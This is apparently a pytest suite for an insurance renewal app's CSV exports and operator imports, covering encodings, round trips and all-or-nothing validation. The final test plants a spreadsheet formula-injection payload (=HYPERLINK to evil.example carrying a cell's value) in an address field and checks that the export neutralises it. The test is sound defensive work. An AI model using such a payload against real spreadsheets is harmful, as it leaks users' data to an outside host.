"""CSV for the back office and the operators' imports: round trips, encodings, all-or-nothing."""
from __future__ import annotations

import datetime as dt

import pytest
from renewal_support import also_on_postgres, in_app, TARO_CAR

from clickar.db import database
from clickar.models import Contract, ContractConditions, Group, RateTable, Renewal
from clickar import jp
from clickar.renewal import export, plans


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
@also_on_postgres
def test_renewals_export_round_trip(seeded, taro, runner, tmp_path, encoding):
    first = taro.renew(driver_age="all")
    taro.post(f"{taro.base}/receipts/{first}/cancel")
    second = taro.renew(mileage="over")
    out = tmp_path / "renewals.csv"
    result = runner.invoke(args=["renewals", "export", "--since", jp.today().isoformat(),
                                 "--encoding", encoding, "--output", str(out)])
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")
    if encoding == "cp932":
        assert "山田 太郎".encode("cp932") in raw
    rows = export.parse_renewals(raw)
    assert [r["receipt_number"] for r in rows] == [first, second]
    assert [r["status"] for r in rows] == ["cancelled", "submitted"]

    def expected():
        return [export.renewal_row(r) for r in Renewal.changed_since(export.since_utc(jp.today()))]

    assert rows == [{k: v for k, v in r.items()} for r in in_app(seeded, expected)]
    by_number = {r["receipt_number"]: r for r in rows}
    assert by_number[first]["driver_age"] == "all" and by_number[first]["driver_age_label"] == "年齢を問わず補償"
    assert by_number[first]["annual_premium"] == 57920
    assert by_number[second]["mileage"] == "over" and by_number[second]["annual_premium"] == 41320
    assert by_number[second]["policy_number"] == TARO_CAR
    assert by_number[second]["submitted_at"].endswith("+09:00")
    assert by_number[first]["cancelled_at"]


@also_on_postgres
def test_export_since_leaves_out_older_renewals(seeded, taro, runner):
    taro.renew()
    tomorrow = (jp.today() + dt.timedelta(days=1)).isoformat()
    result = runner.invoke(args=["renewals", "export", "--since", tomorrow])
    assert result.exit_code == 0
    lines = result.stdout_bytes.decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("receipt_number,")


def test_export_refuses_a_bad_date_and_a_bad_encoding(seeded, runner):
    assert runner.invoke(args=["renewals", "export", "--since", "2026/11/01"]).exit_code != 0
    assert runner.invoke(args=["renewals", "export", "--since", "2026-11-01", "--encoding", "latin-1"]).exit_code != 0


def test_cp932_export_names_the_character_it_cannot_write(seeded, taro, runner):
    taro.renew()
    in_app(seeded, lambda: Renewal.update(rate_table_name="料率🚗").execute())
    result = runner.invoke(args=["renewals", "export", "--since", jp.today().isoformat(), "--encoding", "cp932"])
    assert result.exit_code == 1
    assert "line 2: rate_table: not representable in CP932" in result.output


# ------------------------------------------------------------------ imports

def _import(runner, tmp_path, command: str, content: str | bytes, *options: str):
    """`flask COMMAND import FILE.csv [options]` on content (text is written as UTF-8)."""
    f = tmp_path / f"{command}.csv"
    f.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return runner.invoke(args=[command, "import", str(f), *options])


@also_on_postgres
def test_groups_import_is_all_or_nothing_with_line_column_reason(seeded, runner, tmp_path):
    result = _import(runner, tmp_path, "groups", "group_name,renewal_opens,renewal_closes,installments,agency_email\n"
                     "新しい団体,2027-01-05,2027-02-20,12,desk@agency.example.jp\n"
                     "日付だけの団体,2027-01-05,,12,\n"
                     "逆の団体,2027-03-01,2027-02-01,12,\n"
                     "回数の団体,,,13,\n"
                     "メールの団体,,,1,not-an-address\n")
    assert result.exit_code == 1
    for expected in ("line 3: renewal_closes: give both", "line 4: renewal_closes: before renewal_opens",
                     "line 5: installments: a whole number 1-12", "line 6: agency_email: not a mail address"):
        assert expected in result.output
    assert in_app(seeded, lambda: Group.by_name("新しい団体")) is None


def test_groups_import_reads_cp932_and_upserts(seeded, runner, tmp_path):
    result = _import(runner, tmp_path, "groups", "group_name,renewal_opens,renewal_closes,installments,agency_email\r\n"
                     "株式会社クリックカー商事,2027-01-05,2027-02-20,6,Desk@Agency.example.jp\r\n".encode("cp932"))
    assert result.exit_code == 0, result.output
    assert "0 new, 1 updated" in result.output
    group = in_app(seeded, lambda: Group.by_name("株式会社クリックカー商事"))
    assert (group.installments, group.agency_email, group.renewal_opens) == (6, "desk@agency.example.jp",
                                                                            dt.date(2027, 1, 5))


def test_rates_import_makes_the_new_table_current_and_prices_with_it(seeded, taro, runner, tmp_path, client):
    text = plans.DEMO_RATES.read_text(encoding="utf-8").replace("base,16,38400", "base,16,40000")
    result = _import(runner, tmp_path, "rates", text, "--name", "2027年度料率")
    assert result.exit_code == 0, result.output
    assert in_app(seeded, lambda: RateTable.current().name) == "2027年度料率"
    taro.contract()
    page = client.get(f"{taro.base}/options").get_data(as_text=True)
    # 40,000 × 0.98 × 0.96 × 1.04 = 39,137.28 → 39,130円, and no "illustrative" label any more
    assert 'data-premium="39130"' in page
    assert "例示用（デモ）の料率表による試算" not in page


def test_rates_import_refuses_a_bad_table_and_keeps_the_current_one(seeded, runner, tmp_path):
    result = _import(runner, tmp_path, "rates", "item,code,value\nbase,1,100\n")
    assert result.exit_code == 1
    assert "code: missing row base,2" in result.output and "nothing was written" in result.output
    assert "例示用" in in_app(seeded, lambda: RateTable.current().name)


def test_a_changed_rate_table_before_confirm_sends_the_customer_back_to_the_premium(seeded, taro, client, runner, tmp_path):
    taro.until_review()
    text = plans.DEMO_RATES.read_text(encoding="utf-8").replace("base,16,38400", "base,16,40000")
    assert _import(runner, tmp_path, "rates", text).exit_code == 0
    r = taro.confirm()
    assert r.status_code == 303 and "/renewal/premium" in r.headers["Location"]
    page = client.get(r.headers["Location"]).get_data(as_text=True)
    assert "保険料が改定されました" in page and "39,130円" in page
    assert in_app(seeded, lambda: Renewal.select().count()) == 0


@also_on_postgres
def test_conditions_import_checks_codes_and_contracts(seeded, runner, tmp_path):
    header = "policy_number,grade,claims,driver_scope,driver_age,vehicle,deductible,purpose,mileage\n"
    result = _import(runner, tmp_path, "conditions", header + "SJ24000101,21,0,family,35,general,5-10,commute,10000\n"
                     "SJ99999999,10,0,family,35,general,5-10,commute,10000\n"
                     "SJ24000102,10,0,family,18,general,5-10,commute,10000\n")
    assert result.exit_code == 1
    assert "line 2: grade: a whole number 1-20" in result.output
    assert "line 3: policy_number: no such contract" in result.output
    assert "line 4: driver_age: unknown code" in result.output
    assert _import(runner, tmp_path, "conditions", header + "SJ24000101,20,0,self,all,none,,business,over\n").exit_code == 0
    row = in_app(seeded, lambda: ContractConditions.for_contract(Contract.by_policy_number(TARO_CAR)))
    assert (row.grade, row.vehicle, row.deductible) == (20, "none", "")


@also_on_postgres
def test_a_formula_typed_as_an_address_reaches_the_back_office_as_text(seeded, taro, runner):
    """Issue 18 #8: on main the address went out as a live =HYPERLINK formula."""
    import csv
    import io

    attack = '=HYPERLINK("https://evil.example/?d="&A2,"詳細")'
    r = taro.post("/mypage/profile/change", {"postal_code": "1000001", "address": attack,
                                             "phone": "+81-3-1234-5678"})
    assert r.status_code == 303
    result = runner.invoke(args=["changes", "export", "--since", jp.today().isoformat()])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))) for cell in row]
    assert "'" + attack in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # read back by our own parser, the address is what the member typed
    [row] = export.parse_changes(result.stdout_bytes)
    assert row["new_address"] == attack
